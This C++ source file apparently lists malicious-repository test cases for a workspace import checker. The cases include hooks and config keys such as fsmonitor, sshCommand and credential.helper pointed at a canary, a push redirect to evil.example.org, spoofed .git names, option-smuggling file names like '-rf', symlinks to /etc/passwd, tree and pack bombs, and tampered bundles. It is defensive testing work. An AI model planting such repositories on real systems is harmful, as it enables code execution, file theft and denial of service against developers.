// SPDX-License-Identifier: Apache-2.0
#include "workspaces/import_attacks.hpp"

#include <sys/stat.h>

namespace host::workspaces {
namespace {

// A tree with ten times itself, `levels` deep: 10^levels files in a few objects.
std::string tree_bomb(const Ground& ground, int levels) {
  std::string id = ground.blob("x");
  std::string kind = "100644 blob";
  for (int level = 0; level < levels; ++level) {
    std::string lines;
    for (int i = 0; i < 10; ++i) lines += kind + " " + id + "\tf" + std::to_string(i) + "\n";
    id = ground.git({"mktree"}, lines).substr(0, 40);
    kind = "040000 tree";
  }
  return id;
}

}  // namespace

std::vector<Attack> attacks_by_configuration() {
  std::vector<Attack> all;
  all.push_back({"Hooks",
                 [](Ground& g) {
                   for (const char* name :
                        {"pre-commit", "post-commit", "pre-push", "post-checkout", "post-merge",
                         "reference-transaction", "post-index-change", "fsmonitor-watchman",
                         "pre-auto-gc", "post-rewrite", "push-to-checkout", "proc-receive",
                         "pre-receive", "update", "post-receive", "post-update"})
                     g.hook(name);
                   g.config("core.hooksPath", (g.git_dir() / "hooks").string());
                   g.commit_file("fix", "x");
                 },
                 "taken"});
  for (const char* key : {"core.fsmonitor",
                          "core.sshCommand",
                          "core.gitProxy",
                          "core.askPass",
                          "core.pager",
                          "core.editor",
                          "core.alternateRefsCommand",
                          "credential.helper",
                          "gpg.program",
                          "diff.external",
                          "uploadpack.packObjectsHook",
                          "sequence.editor",
                          "interactive.diffFilter",
                          "remote.origin.uploadpack",
                          "remote.origin.receivepack",
                          "trace2.normalTarget",
                          "core.gitProxy",
                          "core.excludesFile",
                          "core.attributesFile",
                          "merge.tool",
                          "ssh.variant",
                          "protocol.ext.allow"})
    all.push_back({key,
                   [key](Ground& g) {
                     g.commit_file("fix", "x");
                     g.config(key, std::string_view(key) == "protocol.ext.allow"
                                       ? "always"
                                       : g.canary.string());
                   },
                   "taken"});
  all.push_back({"UrlInsteadOf",
                 [](Ground& g) {
                   g.commit_file("fix", "x");
                   for (const char* base : {"http://", "https://", "/", "file://"}) {
                     g.config(("url.ext::" + g.canary.string() + " .insteadOf").c_str(), base);
                     g.config("url.http://evil.example.org/.pushInsteadOf", base);
                   }
                   g.config("http.proxy", "http://127.0.0.1:1/");
                   g.config("http.extraHeader", "X: y");
                 },
                 "taken"});
  all.push_back({"IncludePath",
                 [](Ground& g) {
                   g.commit_file("fix", "x");
                   put(g.git_dir() / "more", "[core]\n\tfsmonitor = " + g.canary.string() + "\n");
                   g.config("include.path", (g.git_dir() / "more").string());
                   g.config("includeIf.gitdir:/.path", (g.git_dir() / "more").string());
                 },
                 "taken"});
  all.push_back({"FiltersAndDrivers",
                 [](Ground& g) {
                   g.commit_file(".gitattributes", "* filter=evil diff=evil merge=evil ident\n");
                   g.commit_file("fix", "x");
                   for (const char* key :
                        {"filter.evil.clean", "filter.evil.smudge", "filter.evil.process",
                         "diff.evil.textconv", "diff.evil.command", "merge.evil.driver"})
                     g.config(key, g.canary.string());
                   g.config("filter.evil.required", "true");
                   put(g.git_dir() / "info" / "attributes", "* filter=evil diff=evil\n");
                 },
                 "taken"});
  all.push_back({"AliasesOfEveryCommand",
                 [](Ground& g) {
                   g.commit_file("fix", "x");
                   for (const char* name : {"alias.push", "alias.ls-files", "alias.index-pack"})
                     g.config(name, "!" + g.canary.string());
                 },
                 "taken"});
  all.push_back({"AlternatesToEtc",
                 [](Ground& g) {
                   g.commit_file("fix", "x");
                   put(g.git_dir() / "objects" / "info" / "alternates", "/etc\n");
                 },
                 "taken"});
  return all;
}

std::vector<Attack> attacks_by_tree() {
  const auto entry = [](const char* name, const char* line_start, const char* outcome) {
    return Attack{name,
                  [=](Ground& g) {
                    std::string line = line_start;
                    line.replace(line.find("ID"), 2, g.blob("x"));
                    g.commit_entry(line);
                  },
                  outcome};
  };
  std::vector<Attack> all = {
      entry("DotGitFolder", "100644 blob ID\t.git", "hasDotgit"),
      entry("DotGitInCapitals", "100644 blob ID\t.GIT", "hasDotgit"),
      entry("DotGitOfNtfs", "100644 blob ID\tgit~1", "hasDotgit"),
      entry("DotGitWithAStream", "100644 blob ID\t.git::$INDEX_ALLOCATION", "hasDotgit"),
      entry("DotGitOfHfs", "100644 blob ID\t.g\xe2\x80\x8cit", "hasDotgit"),
      entry("DotGitAsALink", "120000 blob ID\t.git", "hasDotgit"),
      entry("DotDot", "100644 blob ID\t..", "hasDotdot"),
      entry("NamedLikeAnOption", "100644 blob ID\t--upload-pack=touch x", "like an option"),
      entry("NamedLikeAnOptionOfRm", "100644 blob ID\t-rf", "like an option"),
      entry("AControlCharacter", "100644 blob ID\ta\x1b]0;x\x07", "control character"),
      entry("ANewLine", "100644 blob ID\ta\nb", "control character"),
      entry("ABackslash", "100644 blob ID\ta\\..\\b", "backslash"),
      entry("WritingTurnedAround",
            "100644 blob ID\ta\xe2\x80\xae"
            "cod.exe",
            "not seen"),
      entry("OddMode", "100666 blob ID\tx", "badFilemode"),
      entry("SetUserId", "104755 blob ID\tx", "badFilemode"),
      entry("CaseOfAFile", "100644 blob ID\treadme", "in the case of letters"),
      entry("GitmodulesAsALink", "120000 blob ID\t.gitmodules", "gitmodules"),
  };
  all.push_back({"DotGitInAFolder",
                 [](Ground& g) {
                   const auto inner =
                       g.git({"mktree"}, "100644 blob " + g.blob("[core]\n") + "\tconfig\n");
                   g.commit_entry("040000 tree " + inner.substr(0, 40) + "\t.GIT");
                 },
                 "hasDotgit"});
  all.push_back(
      {"CaseOfAFolder", [](Ground& g) { g.commit_file("SRC/x", "x"); }, "in the case of letters"});
  all.push_back({"Gitlink",
                 [](Ground& g) {
                   g.commit_entry("160000 commit " + g.clone.record.base.text() + "\tmodule");
                 },
                 "is a submodule"});
  all.push_back({"SubmoduleThatRuns",
                 [](Ground& g) {
                   g.commit_file(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = ext::" +
                                                    g.canary.string() + "\n");
                 },
                 "sets up submodules"});
  all.push_back({"SubmoduleThatIsAnOption",
                 [](Ground& g) {
                   g.commit_file(".gitmodules",
                                 "[submodule \"x\"]\n\tpath = x\n\turl = --upload-pack=x\n");
                 },
                 "gitmodules"});
  const std::pair<const char*, std::pair<const char*, const char*>> links[] = {
      {"LinkToEtc", {"/etc/passwd", "not relative"}},
      {"LinkOut", {"../../../etc/passwd", "leads out"}},
      {"LinkIntoGit", {".git/hooks/pre-commit", "git's own folder"}},
      {"LinkOverALink", {"src/../../x", "another link"}},
  };
  for (const auto& [name, link] : links)
    all.push_back({name,
                   [target = link.first](Ground& g) {
                     fs::create_symlink(target, g.tree() / "link");
                     g.commit_all();
                   },
                   link.second});
  return all;
}

std::vector<Attack> attacks_by_size() {
  auto small = open_rules();
  small.limits.unpacked_bytes = 4 << 20;
  return {
      {"HugeFile", [](Ground& g) { g.commit_file("huge", std::string(11 << 20, 'x')); },
       "10485760 are the most"},
      {"PackBomb",
       [](Ground& g) {
         for (int i = 0; i < 12; ++i)
           put(g.tree() / ("zeros" + std::to_string(i)),
               std::string((1 << 20) + static_cast<std::size_t>(i), '\0'));
         g.commit_all();
       },
       "unpacked", false, small},
      {"TreeBomb", [](Ground& g) { g.commit_tree(tree_bomb(g, 9)); }, "needs too much memory"},
      {"HundredThousandFiles",
       [](Ground& g) {
         const auto blob = g.blob("x");
         std::string lines;
         for (int i = 0; i < 100'000; ++i)
           lines += "100644 blob " + blob + "\tf" + std::to_string(i) + "\n";
         g.commit_tree(g.git({"mktree"}, lines));
       },
       "more than 5000 paths"},
      {"NestedWithoutEnd",
       [](Ground& g) {
         std::string id = g.git({"mktree"}, "100644 blob " + g.blob("x") + "\tx\n");
         for (int i = 0; i < 200; ++i)
           id = g.git({"mktree"}, "040000 tree " + id.substr(0, 40) + "\td\n");
         g.commit_tree(id);
       },
       "folders deep"},
      {"ThousandCommits",
       [](Ground& g) {
         std::string stream;
         for (int i = 0; i < 1000; ++i)
           stream += "commit refs/heads/many\ncommitter A <a@b> 1 +0000\ndata 1\nx\n" +
                     (i == 0 ? "from " + g.clone.record.base.text() + "\n" : std::string());
         g.git({"fast-import", "--quiet"}, stream);
         g.git({"update-ref", "HEAD", "refs/heads/many"});
       },
       "more than 200 commits"},
  };
}

std::vector<Attack> attacks_by_history() {
  return {
      {"UnrelatedHistory",
       [](Ground& g) {
         g.git({"checkout", "--quiet", "--orphan", "other"});
         g.commit_file("x", "x");
       },
       "does not descend"},
      {"ReplacedCommit",
       [](Ground& g) {
         const auto base = g.git({"rev-parse", "HEAD"}).substr(0, 40);
         g.commit_file("fine", "x");
         const auto fine = g.git({"rev-parse", "HEAD"}).substr(0, 40);
         g.git({"reset", "--quiet", "--hard", base});
         g.commit_entry("100644 blob " + g.blob("x") + "\t-rf");
         g.git({"replace", g.git({"rev-parse", "HEAD"}).substr(0, 40), fine});
       },
       "!taken"},
      {"Grafts",
       [](Ground& g) {
         const auto base = g.git({"rev-parse", "HEAD"}).substr(0, 40);
         g.git({"checkout", "--quiet", "--orphan", "other"});
         g.commit_file("x", "x");
         const auto root = g.git({"rev-parse", "HEAD"}).substr(0, 40);
         put(g.git_dir() / "info" / "grafts", root + " " + base + "\n");
       },
       "!taken"},
      {"Shallow",
       [](Ground& g) {
         g.commit_file("x", "x");
         g.commit_file("y", "y");
         put(g.git_dir() / "shallow", g.git({"rev-parse", "HEAD"}));
       },
       "!taken"},
      {"FifoAsHead",
       [](Ground& g) {
         g.commit_file("x", "x");
         fs::remove(g.git_dir() / "HEAD");
         (void)::mkfifo((g.git_dir() / "HEAD").c_str(), 0600);
       },
       ".git/HEAD is no regular file"},
      {"GitFileThatLeadsElsewhere",
       [](Ground& g) {
         g.commit_file("x", "x");
         fs::rename(g.git_dir(), g.tree() / "elsewhere");
         put(g.tree() / ".git", "gitdir: " + g.forge.string() + "\n");
       },
       ".git is no folder"},
      {"MissingBlob",
       [](Ground& g) { g.commit_entry("100644 blob " + std::string(40, '1') + "\tx"); }, "!taken"},
  };
}

std::vector<Attack> attacks_by_bundle() {
  const auto real = [](Ground& g) {
    g.commit_file("fix", "x");
    return g.git({"bundle", "create", "--quiet", "-", "HEAD", "^origin/main"});
  };
  return {
      {"ExtraRefs",
       [](Ground& g) {
         g.commit_file("fix", "x");
         g.git({"branch", "other"});
         g.write_bundle(
             g.git({"bundle", "create", "--quiet", "-", "HEAD", "other", "^origin/main"}));
       },
       "more than one ref", true},
      {"ATag",
       [](Ground& g) {
         g.commit_file("fix", "x");
         g.git({"tag", "-a", "-m", "x", "v1"});
         g.write_bundle(g.git({"bundle", "create", "--quiet", "-", "v1", "^origin/main"}));
       },
       "is no commit", true},
      {"NoBundle", [](Ground& g) { g.write_bundle("hello\n"); }, "this is no bundle", true},
      {"Filtered",
       [real](Ground& g) {
         auto bytes = real(g);
         bytes.replace(0, 16, "# v3 git bundle\n@filter=blob:none\n");
         g.write_bundle(bytes);
       },
       "@object-format", true},
      {"HeadOfAnotherName",
       [real](Ground& g) {
         auto bytes = real(g);
         bytes.replace(bytes.find(" HEAD"), 5, " ../../../x");
         g.write_bundle(bytes);
       },
       "taken", true},  // the name of its ref is nobody's business
      {"HeadThatIsNotInIt",
       [real](Ground& g) {
         auto bytes = real(g);
         bytes.replace(bytes.find(" HEAD") - 40, 40, std::string(40, '1'));
         g.write_bundle(bytes);
       },
       "is no commit", true},
      {"HeadThatIsTheBase",
       [real](Ground& g) {
         auto bytes = real(g);
         bytes.replace(bytes.find(" HEAD") - 40, 40, g.clone.record.base.text());
         g.write_bundle(bytes);
       },
       "is no commit", true},
      {"CountsMoreThanItHas",
       [real](Ground& g) {
         auto bytes = real(g);
         bytes[bytes.find("\n\nPACK") + 2 + 10] = '\x20';
         g.write_bundle(bytes);
       },
       "!taken", true},
      {"TwoPacks",
       [real](Ground& g) {
         const auto bytes = real(g);
         g.write_bundle(bytes + bytes.substr(bytes.find("\n\nPACK") + 2));
       },
       "!taken", true},
  };
}

}  // namespace host::workspaces
